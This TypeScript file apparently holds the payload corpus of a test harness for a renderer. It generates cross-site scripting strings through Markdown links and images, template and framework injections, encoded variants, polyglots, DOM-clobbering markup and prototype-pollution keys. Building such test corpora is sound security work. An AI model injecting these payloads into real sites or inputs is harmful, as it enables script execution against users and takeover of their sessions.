import type { Piece } from './piece';

/** Markdown that a careless renderer makes markup of. */
export const MARKDOWN: Piece[] = [
  (call) => `[x](javascript:${call})`,
  (call) => `[x](<javascript:${call}>)`,
  (call) => `[x](https://a.example "onmouseover=${call}")`,
  (call) => `[x](https://a.example/"onmouseover="${call})`,
  (call) => `[x][y]\n\n[y]: javascript:${call}`,
  (call) => `<javascript:${call}>`,
  (call) => `![x](javascript:${call})`,
  (call) => `![x" onerror="${call}](x.png)`,
  (call) => `![x](x.png"onerror="${call})`,
  (_call, canary) => `![x](${canary})`,
  (_call, canary) => `[![x](${canary})](${canary})`,
  (call) => `[<img src=x onerror=${call}>](https://a.example)`,
  (call) => `\`<img src=x onerror=${call}>\``,
  (call) => `\`\`\`html\n<img src=x onerror=${call}>\n\`\`\``,
  (call) => `\`\`\`screen\nbutton: <img src=x onerror=${call}>\n\`\`\``,
  (call) => `\`\`\`"><img src=x onerror=${call}>\nx\n\`\`\``,
  (call) => `> [!TIP]<img src=x onerror=${call}>`,
  (call) => `> [!"><img src=x onerror=${call}>]\n> x`,
  (call) => `- [ ] <img src=x onerror=${call}>`,
  (call) => `# <img src=x onerror=${call}>`,
  (call) => `## x {#"><img src=x onerror=${call}>}`,
  (call) => `| <img src=x onerror=${call}> | b |\n| - | - |`,
  (call) => `<img src=x\nonerror=${call}>`,
  (call) => `\\<img src=x onerror=${call}\\>`,
  (call) => `---\ntitle: <img src=x onerror=${call}>\n---`,
];

/** What template languages would run. */
export const TEMPLATES: Piece[] = [
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{$on.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `{%raw%}<img src=x onerror=${call}>{%endraw%}`,
  (call) => `[[${call}]]`,
  (call) => `<div ng-app ng-init="constructor.constructor('${call}')()">`,
  (call) => `<div x-data x-init="${call}">`,
  (call) => `<div v-html="'<img src=x onerror=${call}>'">`,
  (call) => `<div data-bind="click: ${call}" hx-on:load="${call}">`,
  (call) => `{"__html":"<img src=x onerror=${call}>"}`,
  (call) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
  (call) => `{"type":"img","props":{"src":"x","onerror":"${call}"},"key":null,"ref":null}`,
  (call) => `{"constructor":null,"type":"script","props":{"children":"${call}"}}`,
  (call) => `=HYPERLINK("javascript:${call}","x")`,
];

/** Markup in another writing. */
export const ENCODINGS: Piece[] = [
  (call: string) => `<img src=x onerror=${call}>`,
  (call: string) => `<script>${call}</script>`,
].flatMap((inner): Piece[] => {
  const each = (write: (code: number) => string) => (call: string) =>
    inner(call).replaceAll(/[<>"'()=/]/g, (sign) => write(sign.charCodeAt(0)));
  return [
    each((code) => `&#${code};`),
    each((code) => `&#${code}`),
    each((code) => `&#x${code.toString(16)};`),
    each((code) => `&amp;#${code};`),
    each((code) => `%${code.toString(16)}`),
    each((code) => `%25${code.toString(16)}`),
    each((code) => `\\x${code.toString(16)}`),
    each((code) => `\\u00${code.toString(16)}`),
    each((code) => `%u00${code.toString(16)}`),
    each((code) => String.fromCharCode(code + 0xfee0)),
    each((code) => String.fromCharCode(code + 0x100)),
    (call) => inner(call).replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    (call) => inner(call).replaceAll('<', '&lt').replaceAll('>', '&gt'),
    (call) => `\uFEFF${inner(call)}`,
    (call) => `\u202E${inner(call)}\u202C`,
    (call) => `\u001b[31m${inner(call)}`,
  ];
});

/** Texts that are meant to run wherever they are put. */
export const POLYGLOTS: Piece[] = [
  (call) =>
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(${call})//</title></style></textarea></script>--><svg onload=${call}>`,
  (call) => `'"><img src=x onerror=${call}>{{${call}}}\${${call}}javascript:${call}//`,
  (call) => `*/${call}/*"'--></style></script><img src=x onerror=${call}>`,
  (call) => `\`);${call};//"><svg onload=${call}>`,
  (call) => `-->'"/></sCript><svG x=">" onload=(${call})>`,
  (call) => `]]>"'><details open ontoggle=${call}>\\";${call}//`,
  (call) => `%0d%0a%0d%0a<script>${call}</script>`,
  (call) => `";${call};"`,
  (call) => `';${call};'`,
  (call) => `</script><script>${call}</script>`,
];

/** Names that would stand in the way of the page's own. */
export const CLOBBERS: Piece[] = [
  ...[
    'app',
    'main',
    'end',
    'cover',
    'why',
    'location',
    'trustedTypes',
    'localStorage',
    'navigator',
    'caches',
  ].map(
    (name): Piece =>
      (call) =>
        `<a id="${name}" name="${name}" href="javascript:${call}">x</a>`,
  ),
  () => '<form id="app"><input name="firstElementChild"><input name="attributes"></form>',
  () => '<img name="getElementById"><img name="querySelector"><img name="body">',
  (_call, canary) => `<html data-root="${canary}/">`,
];

/** Keys that would change every object. */
export const PROTOTYPES: Piece[] = [
  () => '__proto__',
  () => 'constructor',
  () => 'prototype',
  () => 'toString',
  () => 'hasOwnProperty',
  () => '{"__proto__":{"polluted":true}}',
  () => '{"constructor":{"prototype":{"polluted":true}}}',
  () => '__proto__[polluted]=true',
  () => '?__proto__.polluted=true',
  (call) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}}`,
];
